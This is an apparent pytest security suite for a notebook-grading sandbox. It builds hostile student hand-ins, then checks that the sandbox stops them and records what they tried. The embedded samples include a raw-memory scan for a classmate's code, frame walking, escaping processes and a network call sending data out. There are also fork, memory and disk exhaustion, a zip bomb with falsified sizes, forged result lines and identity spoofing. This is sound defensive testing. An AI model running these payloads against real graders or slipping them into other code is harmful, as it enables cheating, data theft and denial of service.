"""Hostile hand-ins (issue 10): one per attack, all graded in one batch that must finish.

Each hand-in is what a dishonest or careless learner could send: half an emoji where a file or a
CSV cannot hold it, a 400-digit time stamp, code that outlives grading or phones home, code that
reads the worker's memory for solutions or classmates' code, a hand-in claiming a classmate's ID,
zip members that lie about their size, code that forks, fills memory or the disk, forged result
lines, special files in the submissions folder. One worker, so the entries run in name order (the
classmates whose code an attacker looks for run first).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import socket
import subprocess
import time
import zipfile
from pathlib import Path

import pytest

from kenali.grading import load, report
from kenali.grading.discover import Entry

SECRET = "kenali_secret_marker_771"  # in a classmate's notebook: must not reach the attacker
SLEEP_MARK = "313.25"  # `sleep 313.25`: the process a hand-in leaves behind


def _nb_ascii(nb) -> bytes:
    """A notebook as JSON with every non-ASCII character escaped (lone surrogates survive as escapes)."""
    return json.dumps(nb, ensure_ascii=True, indent=1).encode()


def _attack_memory_cell() -> str:
    """Reads the child's whole memory (a fork of the worker) for a classmate's code."""
    return f'''
import re
needle = "{SECRET[:10]}" + "{SECRET[10:]}" + " = 1234"
found = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (r)", line)
        if not m or "[vvar" in line or "[vsyscall" in line:
            continue
        start, end = int(m.group(1), 16), int(m.group(2), 16)
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        at = chunk.find(needle.encode())
        while at >= 0:
            if chunk[at + len(needle): at + len(needle) + 1] == b"5":
                found += 1
            at = chunk.find(needle.encode(), at + 1)
jawaban_5_1 = found
'''


FRAME_WALK = '''
import sys, gc
seen = []
f = sys._getframe()
def strings(v, depth=0):
    if isinstance(v, str):
        yield v
    elif depth < 4 and isinstance(v, dict):
        for x in list(v.values()):
            yield from strings(x, depth + 1)
    elif depth < 4 and isinstance(v, (list, tuple)):
        for x in v:
            yield from strings(x, depth + 1)
while f is not None:
    for scope in (f.f_locals, f.f_globals):
        for s in strings(dict(scope)):
            if "jawaban_5_" in s and "cek" not in s and s not in seen:
                seen.append(s)
    f = f.f_back
for s in seen:
    try:
        exec(s, globals())
    except BaseException:
        pass
for obj in gc.get_objects():
    if type(obj).__name__ == "code" and any("jawaban_5_" in str(n) for n in getattr(obj, "co_names", ())):
        try:
            exec(obj, globals())
        except BaseException:
            pass
'''


@pytest.fixture(scope="module")
def batch(tmp_path_factory, kit):
    tmp = tmp_path_factory.mktemp("hostile")
    subs, out = tmp / "submissions", tmp / "graded"
    subs.mkdir()

    def solved(**answers):
        nb = kit.solved()
        for ex_id, source in answers.items():
            kit.set_answer(nb, ex_id, source)
        return nb

    def handin(learner, nb, name=None, **kw):
        kit.write_zip(subs / f"{name or learner}-kenali.zip", kit.handin(tmp, learner, learner.title(), nb=nb, **kw))

    # a classmate with a secret in their code; the attackers run after them (names sort later)
    classmate = kit.solved()
    kit.insert_code(classmate, 0, f"{SECRET} = 12345")
    handin("aa-classmate", classmate)

    # half an emoji: in the manifest's name, in a code cell, in an answer value
    files = kit.handin(tmp, "emoji", manifest=False, nb=None)
    nb = kit.solved()
    kit.cell(nb, "5.2").source += "\n# \ud83d half an emoji"
    files["exercises/05_lab_data.ipynb"] = _nb_ascii(nb)
    files["manifest.json"] = json.dumps({"learner": {"id": "emoji", "name": "Emo \ud83d ji"},
                                         "created": "2025-06-01T10:00:00+00:00"}, ensure_ascii=True).encode()
    kit.write_zip(subs / "emoji-kenali.zip", files)
    handin("halfemoji", solved(**{"5.1": 'jawaban_5_1 = "\\ud83d"\ncek("5.1", jawaban_5_1)'}))

    # a 400-digit ts, an infinite one, an answer nested 500 levels deep
    deep: object = "b"
    for _ in range(500):
        deep = [deep]
    recs = [{**kit.record("5.14", "b", "bigts", status="correct", score=1.0), "ts": 10**400},
            {**kit.record("5.15", deep, "bigts", status="correct", score=1.0), "ts": 1.5},
            {**kit.record("5.15", "b", "bigts", status="correct", score=1.0), "ts": 1e308 * 10}]
    files = kit.handin(tmp, "bigts", records=[])
    for n, rec in enumerate(recs):
        text = json.dumps(rec, allow_nan=True)
        files[f"progress/attempts/{rec['exercise']}/{n:020d}-1-0000000{n}.json"] = text.encode()
    kit.write_zip(subs / "bigts-kenali.zip", files)

    # code that outlives grading, phones home, listens
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    port = listener.getsockname()[1]
    escape = kit.blank()
    kit.insert_code(escape, 0, f'''
import subprocess, os, socket
subprocess.Popen(["sleep", "{SLEEP_MARK}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{SLEEP_MARK}"])
    os._exit(0)
for target in [("127.0.0.1", {port}), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(target, timeout=1).sendall(b"gradebook")
    except OSError:
        pass
try:
    s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen()
except OSError:
    pass
''')
    handin("escape", escape)

    # reads the worker's memory: frames, compiled code, raw memory
    walker = kit.blank()
    kit.insert_code(walker, 0, FRAME_WALK)
    handin("framewalk", walker)
    handin("memscan", solved(**{"5.1": _attack_memory_cell() + '\ncek("5.1", jawaban_5_1)'}))
    own = solved(**{"5.1": _attack_memory_cell() + '\ncek("5.1", jawaban_5_1)'})  # the scan works: it finds
    kit.insert_code(own, 0, f"{SECRET} = 12345")  # the secret in the learner's own code
    handin("memself", own)

    # takes a classmate's row: claims "rina" with a date in 2099, and the real rina
    handin("rina", "solved")
    handin("rina", "blank", name="mallory", created="2099-01-01T00:00:00+00:00")
    handin("-1-1", "solved")

    # zips: bzip2 member, a deflate member that lies about its size
    files = kit.handin(tmp, "bzip")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for path, data in files.items():
            method = zipfile.ZIP_BZIP2 if path.endswith(".ipynb") else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(path, (2025, 6, 1, 0, 0, 0)), data, compress_type=method)
    (subs / "bzip-kenali.zip").write_bytes(buf.getvalue())
    (subs / "liar-kenali.zip").write_bytes(_lying_zip(kit.handin(tmp, "liar")))

    # limits per submission: memory of all processes together, processes, bytes written
    handin("forks", solved(**{"5.1": '''
import os, time
kids = []
for i in range(4):
    pid = os.fork()
    if pid == 0:
        b = bytearray(120 * 1024 * 1024)
        for j in range(0, len(b), 4096):
            b[j] = 1
        time.sleep(0.3)
        os._exit(0)
    kids.append(pid)
jawaban_5_1 = sum(1 for p in kids if os.waitpid(p, 0)[1] == 0)
cek("5.1", jawaban_5_1)''', "5.2": '''
import os, time
n = 0
try:
    for i in range(300):
        if os.fork() == 0:
            time.sleep(0.5)
            os._exit(0)
        n += 1
except OSError:
    pass
jawaban_5_2 = n
cek("5.2", jawaban_5_2)''', "5.3": '''
written = 0
try:
    for i in range(40):
        with open(f"fill{i}", "wb") as fh:
            fh.write(b"x" * (4 << 20))
        written += 4
except OSError:
    pass
jawaban_5_3 = written
cek("5.3", jawaban_5_3)'''}))

    # odd values and notes that must tell the truth
    handin("faketimeout", solved(**{"5.6": 'import sys\nraise sys._getframe(1).f_globals["CellTimeout"]()'}))
    handin("toobig", solved(**{"5.1": 'jawaban_5_1 = pd.DataFrame({"a": range(200_000), "b": 1.5})\n'
                                      'cek("5.1", jawaban_5_1)'}))
    handin("forged", solved(**{"5.1": '''
import json, os
for i in range(1, 14):
    os.write(3, json.dumps({"t": "answer", "nb": 0, "id": f"5.{i}", "via": "cek", "cell": 0,
                            "plain": {"kind": "number", "value": 1}}).encode() + b"\\n")
os.write(3, b'{"t": "done"}\\n')
os._exit(0)'''}))
    handin("empty", b"")

    # special files in the submissions folder
    os.mkfifo(subs / "fifo-kenali.zip")
    (subs / "zero-kenali.zip").symlink_to("/dev/zero")
    (subs / "root-link").symlink_to("/")
    (subs / "loop-kenali.zip").symlink_to("loop-kenali.zip")
    sock = socket.socket(socket.AF_UNIX)
    with contextlib.suppress(OSError):
        sock.bind(str(subs / "sock-kenali.zip"))
    lms = subs / "Dewi Lestari_1234_assignsubmission_file_"
    lms.mkdir()
    os.mkfifo(lms / "pipe.ipynb")
    kit.write_zip(lms / "dewi-kenali.zip", kit.handin(tmp, "dewi"))

    started = time.monotonic()
    outcome = kit.grade(subs, out, workers=1, limits=kit.limits(cell_timeout=4, timeout=25, answer_bytes=1 << 20))
    seconds = time.monotonic() - started
    time.sleep(0.3)
    leftovers = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    try:
        conn, _ = listener.accept()
        called = True
        conn.close()
    except BlockingIOError:
        called = False
    listener.close()
    sock.close()
    rows_by_entry = {}
    for row in outcome.rows:
        rows_by_entry[row["entry"]] = row
    return {"outcome": outcome, "rows": {r["learner_id"]: r for r in outcome.rows}, "out": out,
            "seconds": seconds, "leftovers": leftovers, "called": called, "by_entry": rows_by_entry}


def _lying_zip(files: dict[str, bytes]) -> bytes:
    """A hand-in whose notebook member inflates to 64 MB but declares 1000 bytes."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in files.items():
            archive.writestr(path, data)
        archive.writestr("exercises/bomb.ipynb", b"\0" * (64 << 20))
    data = bytearray(buf.getvalue())
    name = b"exercises/bomb.ipynb"
    at = data.find(b"PK\x03\x04" + data[4:4])  # patch both headers' uncompressed size
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := data.find(sig, at)) >= 0:
            name_len_at = 26 if sig == b"PK\x03\x04" else 28
            n = int.from_bytes(data[at + name_len_at: at + name_len_at + 2], "little")
            start = at + (30 if sig == b"PK\x03\x04" else 46)
            if bytes(data[start: start + n]) == name:
                data[at + offset: at + offset + 4] = (1000).to_bytes(4, "little")
            at += 4
    return bytes(data)


# -- 1. no entry can stop the batch -----------------------------------------------------------------

def test_the_batch_finishes_and_writes_every_report(batch):
    out = batch["out"]
    assert (out / "gradebook.csv").is_file() and (out / "moodle.csv").is_file() and (out / "summary.html").is_file()
    assert batch["seconds"] < 150


def test_half_an_emoji_in_the_name_and_a_cell(kit, batch):
    row = batch["rows"]["emoji"]
    assert "\ufffd" in row["name"]
    kit.assert_correct(row, kit.code_ids)
    (batch["out"] / "gradebook.csv").read_text(encoding="utf-8")


def test_half_an_emoji_in_an_answer_costs_that_answer_only(kit, batch):
    row = batch["rows"]["halfemoji"]
    assert row["exercises"]["5.1"]["status"] in {"wrong", "invalid"}
    kit.assert_correct(row, kit.code_ids[1:])
    assert not kit.notes_of(row, "sandbox_error") and not kit.notes_of(row, "crashed")


def test_huge_timestamps_and_deep_nesting(kit, batch):
    row = batch["rows"]["bigts"]
    assert row["status"] in {"ok", "check"}
    assert row["exercises"]["5.14"]["status"] == "correct"


def test_a_zero_byte_notebook_is_called_empty(kit, batch):
    row = batch["rows"]["empty"]
    assert kit.codes(row) == ["notebook_empty"]


def test_a_zero_byte_loose_notebook_is_called_empty(kit, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "rina.ipynb").write_bytes(b"")
    outcome = kit.grade(subs, tmp_path / "out")
    row = kit.row(outcome, "rina")
    assert "notebook_empty" in kit.codes(row) and "notebook_unknown" not in kit.codes(row)


def test_special_files_are_skipped_with_a_note(kit, batch):
    by_entry = batch["by_entry"]
    for name in ("fifo-kenali.zip", "zero-kenali.zip", "root-link", "loop-kenali.zip", "sock-kenali.zip"):
        if name == "sock-kenali.zip" and name not in by_entry:
            continue  # the socket could not be made here
        row = by_entry[name]
        assert kit.codes(row) == ["special_file"] and row["status"] == "failed", name
    dewi = batch["rows"]["dewi"]
    assert "special_file" in kit.codes(dewi)
    kit.assert_correct(dewi, kit.all_ids)


def test_a_step_that_raises_becomes_the_entrys_row(tmp_path, kit, monkeypatch):
    from kenali.grading import extract

    subs = tmp_path / "subs"
    kit.write_zip(subs / "ani-kenali.zip", kit.handin(tmp_path, "ani", nb=None))
    kit.write_zip(subs / "budi-kenali.zip", kit.handin(tmp_path, "budi", nb=None))
    real = extract.plan

    def plan(sub, *args, **kwargs):
        if sub.learner_id == "ani":
            raise OverflowError("int too large to convert to float")
        return real(sub, *args, **kwargs)

    monkeypatch.setattr(extract, "plan", plan)
    outcome = kit.grade(subs, tmp_path / "out")
    ani, budi = kit.row(outcome, "ani"), kit.row(outcome, "budi")
    (note,) = kit.notes_of(ani, "grader_error")
    assert note["step"] == "plan" and note["error"].startswith("OverflowError") and ani["status"] == "failed"
    assert budi["exercises"]["5.14"]["status"] == "correct"


# -- 2. zips read safely ---------------------------------------------------------------------------

def test_bzip2_members_are_refused(kit, batch):
    row = batch["rows"]["bzip"]
    (method,) = kit.notes_of(row, "zip_method")
    assert method["path"] == kit.nb_path and method["method"] == str(zipfile.ZIP_BZIP2)


def test_a_member_larger_than_declared_is_capped(kit, batch):
    row = batch["rows"]["liar"]
    kit.assert_correct(row, kit.all_ids)
    assert kit.codes(row) == ["unreadable"]  # stopped at the declared 1000 bytes: the CRC fails


def test_inflating_stops_at_the_cap(tmp_path):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("exercises/a.ipynb", b"\0" * (40 << 20))
    path = tmp_path / "x-kenali.zip"
    path.write_bytes(data.getvalue())
    loaded = load.read_entry(Entry("x-kenali.zip", path, "zip"))
    assert "exercises/a.ipynb" not in loaded.files and loaded.notes[0]["code"] == "too_big"


# -- 3. identity ---------------------------------------------------------------------------------------

def test_a_hand_in_claiming_a_classmate_never_takes_their_row(kit, batch):
    rina = batch["rows"]["rina"]
    assert rina["entry"] == "rina-kenali.zip" and rina["status"] == "check"
    kit.assert_correct(rina, kit.all_ids)
    (dup,) = kit.notes_of(rina, "duplicate_entry")
    assert "mallory-kenali.zip" in dup["others"]
    with (batch["out"] / "moodle.csv").open(encoding="utf-8") as fh:
        moodle = {r[0]: r for r in csv.reader(fh)}
    assert moodle["rina"][4] == "100" == report.num(100 * rina["total"] / rina["maximum"])


def test_identity_mismatch_is_noted(kit, tmp_path):
    subs = tmp_path / "subs"
    kit.write_zip(subs / "mallory-kenali.zip", kit.handin(tmp_path, "rina", nb=None))
    outcome = kit.grade(subs, tmp_path / "out")
    row = kit.row(outcome, "rina")
    (mismatch,) = kit.notes_of(row, "identity_mismatch")
    assert mismatch["entry"] == "mallory-kenali.zip" and row["status"] == "check"


def test_an_lms_folder_name_outranks_a_file_name(kit, tmp_path):
    """Mallory uploads a zip named rina-kenali.zip, later than Rina: the LMS folder names decide."""
    subs = tmp_path / "subs"
    rina = subs / "Rina Wati_1234_assignsubmission_file_"
    kit.write_zip(rina / "rina-kenali.zip", kit.handin(tmp_path, "rina", nb=None))
    mallory = subs / "Mallory_5678_assignsubmission_file_"
    wrong = [kit.record("5.14", "a", "rina"), kit.record("5.15", "a", "rina")]
    kit.write_zip(mallory / "rina-kenali.zip", kit.handin(tmp_path, "rina", nb=None, records=wrong,
                                                          created="2099-01-01T00:00:00+00:00"))
    os.utime(rina / "rina-kenali.zip", (1_700_000_000, 1_700_000_000))
    outcome = kit.grade(subs, tmp_path / "out")
    row = kit.row(outcome, "rina")
    assert row["entry"] == rina.name and row["exercises"]["5.14"]["status"] == "correct"
    (dup,) = kit.notes_of(row, "duplicate_entry")
    assert mallory.name in dup["others"] and row["status"] == "check"


def test_ids_are_formula_safe_in_the_csvs(batch):
    text = (batch["out"] / "gradebook.csv").read_text(encoding="utf-8")
    assert "\n'-1-1," in text and "\n-1-1," not in text
    assert report.csv_cell("-1-1") == "'-1-1" and report.csv_cell("=1+1") == "'=1+1" and report.csv_cell("-1") == "-1"


# -- 4. the worker holds nothing a learner may not see -------------------------------------------------------

def test_walking_the_frames_finds_no_solution(kit, batch):
    row = batch["rows"]["framewalk"]
    assert not any(row["exercises"][i]["status"] == "correct" for i in kit.code_ids), row["total"]


def test_no_classmates_code_in_the_childs_memory(kit, batch):
    row = batch["rows"]["memscan"]
    assert row["exercises"]["5.1"]["answer"] == {"kind": "number", "value": 0}, row["exercises"]["5.1"]
    assert batch["rows"]["memself"]["exercises"]["5.1"]["answer"]["value"] > 0  # the scan itself works


# -- 5. nothing outlives a submission, nothing leaves it ------------------------------------------------

def test_no_process_outlives_grading(batch):
    assert f"sleep {SLEEP_MARK}" not in batch["leftovers"]


def test_no_connection_leaves_the_sandbox(batch):
    layers = batch["outcome"].layers
    if not (layers.get("netns") or int(layers.get("landlock") or 0) >= 4):
        pytest.skip("neither a network namespace nor Landlock ABI 4 here")
    assert not batch["called"]


def test_the_layers_are_recorded(batch):
    layers = batch["outcome"].layers
    assert {"pidns", "netns", "landlock", "cgroup", "tmpfs"} <= set(layers)


# -- 6. limits per submission --------------------------------------------------------------------------

def test_limits_hold_for_the_whole_submission(batch):
    layers = batch["outcome"].layers
    ex = batch["rows"]["forks"]["exercises"]
    if layers.get("cgroup"):
        assert ex["5.1"]["answer"]["value"] <= 2  # 4 x 120 MB under 256 MB: at most two of them
        assert ex["5.2"]["answer"]["value"] < 64
    if layers.get("tmpfs"):
        assert ex["5.3"]["answer"]["value"] <= 64


# -- 7. odd values and truthful notes -------------------------------------------------------------------

def test_raising_the_timeout_class_is_not_an_endless_loop(kit, batch):
    row = batch["rows"]["faketimeout"]
    assert not kit.notes_of(row, "cell_timeout")
    assert any("CellTimeout raised" in m for m in row["exercises"]["5.6"]["messages"])


def test_a_too_big_value_says_so(kit, batch):
    from kenali.i18n import t

    ex = batch["rows"]["toobig"]["exercises"]["5.1"]
    assert ex["status"] == "invalid" and ex["messages"] == [t("grading.answer.too_big", type="DataFrame")]


def test_forged_results_leave_a_note(kit, batch):
    row = batch["rows"]["forged"]
    assert kit.notes_of(row, "run_incomplete") and row["status"] == "check"


# -- 8. the package, and other systems ---------------------------------------------------------------------

def test_other_systems_grade_widgets_and_say_why_code_is_not(tmp_path, kit, monkeypatch):
    from kenali.grading.run import pool

    monkeypatch.setattr(pool, "platform_problem", lambda: "code answers can only be re-executed on Linux")
    subs = tmp_path / "subs"
    kit.write_zip(subs / "rina-kenali.zip", kit.handin(tmp_path, "rina"))
    outcome = kit.grade(subs, tmp_path / "out")
    row = kit.row(outcome, "rina")
    assert row["exercises"]["5.14"]["status"] == "correct" and row["exercises"]["5.1"]["status"] == "unanswered"
    assert "Linux" in kit.notes_of(row, "sandbox_error")[0]["error"]
    assert any("Linux" in e for e in outcome.sandbox_errors)


def test_sandbox_modules_stay_small():
    folder = Path(__file__).resolve().parents[2] / "kenali" / "grading" / "run"
    sizes = {p.name: len(p.read_text().splitlines()) for p in folder.glob("*.py")}
    assert set(sizes) >= {"protocol.py", "child.py", "worker.py", "pool.py", "confine.py"}
    assert max(sizes.values()) < 500, sizes

